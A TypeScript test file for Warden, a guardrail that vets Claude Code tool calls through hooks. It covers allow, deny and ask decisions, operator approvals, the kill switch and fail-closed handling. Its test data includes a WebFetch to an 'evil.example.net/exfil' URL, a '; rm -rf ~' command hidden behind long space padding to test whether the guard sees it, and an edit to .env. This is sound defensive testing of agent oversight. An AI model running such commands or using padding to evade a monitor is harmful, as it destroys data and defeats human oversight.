/**
 * `warden hook claude-code` fed Claude Code's hook JSON (test/fixtures/claude-code) against a real
 * server: the exact decision JSON on stdout, exit 0 every time, and the action, approval and
 * completion in the audit.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ManualClock } from '../../../electron/common/clock.js';
import { startTestApp, type TestApp } from '../../support/app.js';
import { cli, repoRoot } from '../../support/cli-harness.js';

const FIXTURES = join(repoRoot, 'test', 'fixtures', 'claude-code');
const SESSION = '3f0c1f0e-5b7a-4c55-9d1e-2a8f8d1c7b42';

let t: TestApp;
let clock: ManualClock;
let agent: { id: string; key: string };
let stateDir: string;
let env: Record<string, string>;
let n = 0;

/** A fixture as text, with a fresh tool_use_id so every run is a new tool call. */
function fixture(name: string, patch: Record<string, unknown> = {}): { text: string; toolUseId: string } {
  const raw = readFileSync(join(FIXTURES, name), 'utf8');
  const data = JSON.parse(raw);
  const toolUseId = (patch.tool_use_id as string | undefined) ?? `${data.tool_use_id}_${++n}`;
  return { text: JSON.stringify({ ...data, ...patch, tool_use_id: toolUseId }), toolUseId };
}

function hook(stdin: string | undefined, args: string[] = [], extraEnv: Record<string, string | undefined> = {}) {
  return cli(['hook', 'claude-code', '--state-dir', stateDir, ...args], { env: { ...env, ...extraEnv }, stdin });
}

function expected(permissionDecision: 'allow' | 'deny' | 'ask', reason: string): string {
  return `${JSON.stringify({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision, permissionDecisionReason: reason } })}\n`;
}

/** The agent's newest action (the one the hook just asked for). */
async function lastAction() {
  return (await t.api(t.op).call('listActions', { query: { agent_id: agent.id, limit: '1' } })).data[0];
}

async function until<T>(fn: () => Promise<T | undefined>, ms = 5000): Promise<T> {
  const end = Date.now() + ms;
  for (;;) {
    const v = await fn();
    if (v !== undefined) return v;
    if (Date.now() > end) throw new Error('timed out waiting');
    await new Promise((r) => setTimeout(r, 20));
  }
}

async function pendingApproval() {
  return until(async () => (await t.api(t.op).call('listApprovals', { query: { status: 'pending', agent_id: agent.id } })).data[0]);
}

beforeAll(async () => {
  clock = new ManualClock(Date.now());
  t = await startTestApp({ clock });
  stateDir = mkdtempSync(join(tmpdir(), 'warden-hook-state-'));
  agent = await t.agent('claude-code', { role: 'coder' });
  env = { WARDEN_URL: t.url, WARDEN_KEY: agent.key };
  await t.api(t.op).call('createGuardrail', { body: {
    name: 'coding-agent',
    rules: [
      { tool: 'shell.exec', expr: "$.args.command starts_with 'npm test'", decision: 'ALLOW' },
      { tool: 'shell.exec', expr: "$.args.command contains 'rm -rf'", decision: 'ALERT' },
      { tool: 'fs.read', decision: 'ALLOW' },
      { tool: 'http.request', decision: 'ALLOW' },
      { tool: 'mcp.github.*', decision: 'ALLOW' },
      { tool: 'fs.write', decision: 'ALERT' },
    ],
  } });
  await t.api(t.op).call('createTool', { body: { name: 'http.request' } });
  await t.api(t.op).call('createToolPolicy', { body: { tool_name: 'http.request', allowed: true, restrictions: { allowed_domains: ['docs.example.com'] } } });
});

afterAll(async () => {
  await t?.close();
  if (stateDir) rmSync(stateDir, { recursive: true, force: true });
});

describe('PreToolUse → a decision, exit 0', () => {
  it('Bash → shell.exec with args.command and the session as mission: ALLOW → allow; PostToolUse completes it', async () => {
    const { text, toolUseId } = fixture('pre-bash.json');
    const r = await hook(text);
    const action = await lastAction();
    expect(action).toMatchObject({
      decision: 'ALLOW',
      status: 'allowed',
      action: { tool: 'shell.exec', mission_id: SESSION, args: { command: 'npm test -- --run', description: 'Run the unit tests', claude_tool: 'Bash', cwd: '/home/dev/shop' } },
    });
    expect(r).toMatchObject({ code: 0, stderr: '' });
    expect(r.stdout).toBe(expected('allow', `Warden allowed shell.exec: ${action!.explanation}`));

    const post = await hook(fixture('post-bash.json', { tool_use_id: toolUseId }).text);
    expect(post).toMatchObject({ code: 0, stdout: '', stderr: '' });
    expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'succeeded' });
    // The state file is consumed: nothing left behind.
    expect(readdirSync(stateDir)).toEqual([]);

    const audit = (await t.api(t.op).call('listAudit', { query: { agent_id: agent.id, limit: '500' } })).data;
    const forAction = audit.filter((e: { subject_id: string | null }) => e.subject_id === action!.id).map((e: { event_type: string }) => e.event_type);
    expect(forAction).toEqual(expect.arrayContaining(['action.evaluated', 'action.completed']));
  });

  it('Write → fs.write with args.path: ALERT waits for the operator; allow_once → allow; the approval is in the audit', async () => {
    const { text } = fixture('pre-write.json');
    const running = hook(text, ['--wait', '20']);
    const apr = await pendingApproval();
    expect(apr.action).toMatchObject({ tool: 'fs.write', args: { path: '/home/dev/shop/src/refunds.ts', content_length: 31, claude_tool: 'Write' } });
    await t.api(t.op).call('decideApproval', { params: { id: apr.id }, body: { decision: 'allow_once' } });
    const r = await running;
    const action = await t.api(t.op).call('getAction', { params: { id: apr.action_id! } });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('allow', `Warden allowed fs.write (approved by owner): ${action.explanation}`));
    const audit = (await t.api(t.op).call('listAudit', { query: { event_type: 'approval.*', limit: '500' } })).data;
    const types = audit.filter((e) => e.subject_id === apr.id).map((e) => e.event_type);
    expect(types).toEqual(expect.arrayContaining(['approval.requested', 'approval.granted']));
  });

  it('Edit → fs.write: a denial → deny with the operator’s comment', async () => {
    const running = hook(fixture('pre-edit.json').text, ['--wait', '20']);
    const apr = await pendingApproval();
    expect(apr.action).toMatchObject({ tool: 'fs.write', args: { path: '/home/dev/shop/.env', claude_tool: 'Edit' } });
    await t.api(t.op).call('decideApproval', { params: { id: apr.id }, body: { decision: 'deny', comment: 'never touch .env' } });
    const r = await running;
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('deny', 'Warden: fs.write was denied by the operator: never touch .env'));
    const audit = (await t.api(t.op).call('listAudit', { query: { event_type: 'approval.denied', limit: '500' } })).data;
    expect(audit.map((e) => e.subject_id)).toContain(apr.id);
  });

  it('MultiEdit → fs.write: no answer within --wait → ask', async () => {
    let done = false;
    const running = hook(fixture('pre-multiedit.json').text, ['--wait', '1']).finally(() => (done = true));
    // The server's long-poll runs on the test clock: move it on until the hook stops waiting.
    while (!done) {
      clock.advance(1000);
      await new Promise((r) => setTimeout(r, 50));
    }
    const r = await running;
    const action = await lastAction();
    // Nobody waits any more: the request is withdrawn, so a late approval cannot hold a slot.
    expect(action).toMatchObject({ status: 'expired', withdrawn_at: expect.any(String), action: { tool: 'fs.write', args: { path: '/home/dev/shop/src/app.ts', edits: 2, claude_tool: 'MultiEdit' } } });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for fs.write within 1 s (request withdrawn); asking here instead (${action!.explanation})`));
  });

  it('an approval that expires while the hook waits → ask', async () => {
    const running = hook(fixture('pre-write.json').text, ['--wait', '20']);
    const apr = await pendingApproval();
    clock.advance(301_000); // past approval_ttl_seconds (300): the reaper expires it
    const r = await running;
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('ask', `Warden: ${apr.id} for fs.write expired before anyone answered in Warden; asking here instead`));
    expect((await t.api(t.op).call('getApproval', { params: { id: apr.id } })).status).toBe('expired');
  });

  it.each([
    ['pre-read.json', { path: '/home/dev/shop/README.md', claude_tool: 'Read' }],
    ['pre-glob.json', { path: '/home/dev/shop', pattern: 'src/**/*.ts', claude_tool: 'Glob' }],
    ['pre-grep.json', { path: '/home/dev/shop/src', pattern: 'TODO', claude_tool: 'Grep' }],
  ])('%s → fs.read → allow', async (name, args) => {
    const r = await hook(fixture(name).text);
    const action = await lastAction();
    expect(action!.action).toMatchObject({ tool: 'fs.read', args });
    expect(r.stdout).toBe(expected('allow', `Warden allowed fs.read: ${action!.explanation}`));
    expect(r.code).toBe(0);
  });

  it('WebFetch → http.request with args.url: BLOCK → deny with Warden’s explanation', async () => {
    const r = await hook(fixture('pre-webfetch.json').text);
    const action = await lastAction();
    expect(action).toMatchObject({ decision: 'BLOCK', block_code: 'domain_not_allowed', action: { tool: 'http.request', args: { url: 'https://evil.example.net/exfil?data=abc', claude_tool: 'WebFetch' } } });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('deny', `Warden blocked http.request: ${action!.explanation}`));

    const docs = await hook(fixture('pre-webfetch-docs.json').text);
    expect(JSON.parse(docs.stdout).hookSpecificOutput.permissionDecision).toBe('allow');
  });

  it('mcp__github__create_issue → mcp.github.create_issue; PostToolUseFailure completes it as failed', async () => {
    const { text, toolUseId } = fixture('pre-mcp.json');
    const r = await hook(text);
    const action = await lastAction();
    expect(action!.action).toMatchObject({ tool: 'mcp.github.create_issue', args: { owner: 'acme', repo: 'shop', title: 'Refund ceiling', claude_tool: 'mcp__github__create_issue' } });
    expect(r.stdout).toBe(expected('allow', `Warden allowed mcp.github.create_issue: ${action!.explanation}`));
    const post = await hook(fixture('post-mcp-failure.json', { tool_use_id: toolUseId }).text);
    expect(post).toMatchObject({ code: 0, stdout: '' });
    expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'failed' });
  });

  it('any other tool → claude.TOOLNAME; with no rule it asks the operator (here: --wait 0 → ask)', async () => {
    const r = await hook(fixture('pre-todowrite.json').text, ['--wait', '0']);
    const action = await lastAction();
    expect(action).toMatchObject({ decision: 'ALERT', action: { tool: 'claude.TodoWrite', args: { claude_tool: 'TodoWrite' } } });
    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for claude.TodoWrite within 0 s (request withdrawn); asking here instead (${action!.explanation})`));
  });

  it('the kill-switch → deny', async () => {
    await t.api(t.op).call('setKillSwitch', { body: { engaged: true, reason: 'lunch' } });
    try {
      const r = await hook(fixture('pre-bash.json').text);
      const action = await lastAction();
      expect(action).toMatchObject({ decision: 'BLOCK', block_code: 'kill_switch' });
      expect(r.stdout).toBe(expected('deny', `Warden blocked shell.exec: ${action!.explanation}`));
    } finally {
      await t.api(t.op).call('setKillSwitch', { body: { engaged: false } });
    }
  });

  it('without --state-dir the action id waits in DATA_DIR/hook-state/claude-code until PostToolUse', async () => {
    const dataDir = mkdtempSync(join(tmpdir(), 'warden-hook-data-'));
    try {
      const { text, toolUseId } = fixture('pre-read.json');
      const run = (stdin: string) => cli(['hook', 'claude-code'], { env: { ...env, WARDEN_DATA_DIR: dataDir }, stdin });
      expect(JSON.parse((await run(text)).stdout).hookSpecificOutput.permissionDecision).toBe('allow');
      const folder = join(dataDir, 'hook-state', 'claude-code');
      expect(readdirSync(folder)).toHaveLength(1);
      const action = await lastAction();
      const post = await run(JSON.stringify({ ...JSON.parse(text), hook_event_name: 'PostToolUse', tool_response: { type: 'text' }, tool_use_id: toolUseId }));
      expect(post).toMatchObject({ code: 0, stdout: '', stderr: '' });
      expect(readdirSync(folder)).toEqual([]);
      expect(await t.api(t.op).call('getAction', { params: { id: action!.id } })).toMatchObject({ status: 'completed', outcome: 'succeeded' });
    } finally {
      rmSync(dataDir, { recursive: true, force: true });
    }
  });

  it('a PostToolUse for a call Warden did not allow does nothing', async () => {
    const r = await hook(fixture('post-bash.json', { tool_use_id: 'toolu_never_asked' }).text);
    expect(r).toMatchObject({ code: 0, stdout: '', stderr: '' });
  });
});

describe('what Warden decides on reaches it whole: never cut, never replaced', () => {
  it.each([4000, 60_000])('`npm test` + %i spaces + `; rm -rf ~` is evaluated as it is: ALERT, not allow', async (pad) => {
    const command = `npm test${' '.repeat(pad)}; rm -rf ~`;
    const r = await hook(fixture('pre-bash.json', { tool_input: { command } }).text, ['--wait', '0']);
    const action = await lastAction();
    expect((action!.action.args!.command as string).length).toBe(command.length); // a short failure message before the exact check
    expect(action!.action.args!.command).toBe(command);
    expect(action).toMatchObject({ decision: 'ALERT', status: 'expired' });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('ask', `Warden: no answer to ${action!.approval_id} for shell.exec within 0 s (request withdrawn); asking here instead (${action!.explanation})`));
  });

  it.each([
    ['Bash', { command: `npm test ${'x'.repeat(600 * 1024)}` }],
    ['mcp__github__create_issue', { owner: 'acme', repo: 'shop', title: 'big', body: 'y'.repeat(600 * 1024) }],
  ])('a %s input too large for the server → deny (fail closed), nothing asked', async (tool_name, tool_input) => {
    const before = await lastAction();
    const r = await hook(fixture('pre-bash.json', { tool_name, tool_input }).text);
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout).hookSpecificOutput;
    expect(out.permissionDecision).toBe('deny');
    expect(out.permissionDecisionReason).toMatch(
      /^Warden hook: the tool input is too large for Warden to evaluate \(\d+ bytes of JSON, over the 524288-byte limit\); refusing the tool call$/,
    );
    expect((await lastAction())!.id).toBe(before!.id);
  });
});

describe('bad input and bad surroundings → a clear deny, never a crash or a silent allow', () => {
  it('malformed JSON', async () => {
    const before = await lastAction();
    const r = await hook(readFileSync(join(FIXTURES, 'malformed.txt'), 'utf8'));
    expect(r.code).toBe(0);
    const out = JSON.parse(r.stdout);
    expect(out.hookSpecificOutput).toMatchObject({ hookEventName: 'PreToolUse', permissionDecision: 'deny' });
    expect(out.hookSpecificOutput.permissionDecisionReason).toMatch(/^Warden hook: hook input is not valid JSON \(.+\); refusing the tool call$/);
    expect(Object.keys(out)).toEqual(['hookSpecificOutput']);
    expect((await lastAction())!.id).toBe(before!.id); // nothing was asked
  });

  it('empty stdin, and a terminal instead of a pipe', async () => {
    const empty = await hook(readFileSync(join(FIXTURES, 'empty.txt'), 'utf8'));
    expect(empty.code).toBe(0);
    expect(empty.stdout).toBe(expected('deny', "Warden hook: no hook input on stdin (expected Claude Code's PreToolUse JSON); refusing the tool call"));
    const tty = await cli(['hook', 'claude-code'], { env, stdinIsTTY: true });
    expect(tty.code).toBe(0);
    expect(JSON.parse(tty.stdout).hookSpecificOutput.permissionDecision).toBe('deny');
  });

  it('JSON that is not an object, or has no tool_name', async () => {
    expect((await hook('[1, 2]')).stdout).toBe(expected('deny', 'Warden hook: hook input is not a JSON object; refusing the tool call'));
    expect((await hook('{"hook_event_name": "PreToolUse", "tool_input": {}}')).stdout).toBe(
      expected('deny', 'Warden hook: hook input has no tool_name; refusing the tool call'),
    );
  });

  it('no agent key', async () => {
    const r = await hook(fixture('pre-bash.json').text, [], { WARDEN_KEY: undefined });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('deny', 'Warden hook: no agent key — set WARDEN_KEY to the key printed by `warden agent add claude-code`'));
  });

  it('a revoked or unknown key', async () => {
    const r = await hook(fixture('pre-bash.json').text, [], { WARDEN_KEY: 'wk_agent_not_a_real_key' });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('deny', 'Warden rejected the agent key from WARDEN_KEY (unauthenticated) — create one with `warden agent add claude-code`'));
  });

  it('Warden not running → deny with how to start it; --on-unreachable ask → ask', async () => {
    const down = { WARDEN_URL: 'http://127.0.0.1:1' };
    const r = await hook(fixture('pre-bash.json').text, [], down);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      expected('deny', 'Warden is not reachable at http://127.0.0.1:1 — start it with `warden serve` or the desktop app (or run the hook with --on-unreachable ask)'),
    );
    const asked = await hook(fixture('pre-bash.json').text, ['--on-unreachable', 'ask'], down);
    expect(asked.stdout).toBe(expected('ask', 'Warden is not reachable at http://127.0.0.1:1 — start it with `warden serve` or the desktop app; asking here instead'));
  });

  it('a Warden that accepts the request but never answers → deny shortly after --wait, before Claude Code’s timeout', async () => {
    const hung = createServer(() => {
      /* never responds */
    });
    await new Promise<void>((r) => hung.listen(0, '127.0.0.1', () => r()));
    try {
      const started = Date.now();
      const r = await hook(fixture('pre-bash.json').text, ['--wait', '0'], { WARDEN_URL: `http://127.0.0.1:${(hung.address() as AddressInfo).port}` });
      expect(Date.now() - started).toBeLessThan(9000);
      expect(r.code).toBe(0);
      expect(r.stdout).toBe(expected('deny', 'Warden did not answer within 5 s; refusing the tool call'));
    } finally {
      hung.closeAllConnections();
      await new Promise((r) => hung.close(r));
    }
  });

  it.each([
    [['--wait', 'abc'], `option '--wait <seconds>' argument 'abc' is invalid. expected whole seconds 0-86400, got "abc"`],
    [['--bogus'], `unknown option '--bogus'`],
    [['--on-unreachable', 'maybe'], `option '--on-unreachable <decision>' argument 'maybe' is invalid. Allowed choices are deny, ask`],
    [['extra-argument'], `too many arguments for 'claude-code'. Expected 0 arguments but got 1`],
  ])('a bad option or argument (%j) → deny with the option error, exit 0; other commands keep exit 2', async (args, error) => {
    const before = await lastAction();
    const r = await hook(fixture('pre-bash.json').text, args);
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(expected('deny', `Warden hook: ${error}; refusing the tool call`));
    expect((await lastAction())!.id).toBe(before!.id); // nothing was asked
    const other = await cli(['agent', 'list', ...args], { env });
    expect(other).toMatchObject({ code: 2, stdout: '' });
    const help = await cli(['hook', 'claude-code', '--help'], { env });
    expect(help.code).toBe(0);
    expect(help.stdout).toContain('Usage: warden hook claude-code');
  });

  it('an agent key without approvals:read: deny naming the scope the agent key needs, not the operator token', async () => {
    const limited = (await t.api(t.op).call('createAgentKey', { params: { id: agent.id }, body: { scopes: ['actions:write'] } })).api_key as string;
    const r = await hook(fixture('pre-write.json').text, ['--wait', '0'], { WARDEN_KEY: limited });
    const action = await lastAction();
    expect(action).toMatchObject({ status: 'expired', withdrawn_at: expect.any(String), action: { tool: 'fs.write' } });
    expect(r.code).toBe(0);
    expect(r.stdout).toBe(
      expected(
        'deny',
        'Warden could not decide on fs.write: this key lacks the approvals:read scope (insufficient_scope)' +
          ' (the agent key from WARDEN_KEY needs the approvals:read scope: issue one with `warden key create AGENT --scopes actions:write,approvals:read` and use it instead)',
      ),
    );
    expect(r.stdout).not.toContain('operator');
  });

  it('other hook events are ignored quietly', async () => {
    const r = await hook(JSON.stringify({ session_id: SESSION, hook_event_name: 'Stop', stop_hook_active: false }));
    expect(r).toMatchObject({ code: 0, stdout: '', stderr: '' });
  });
});
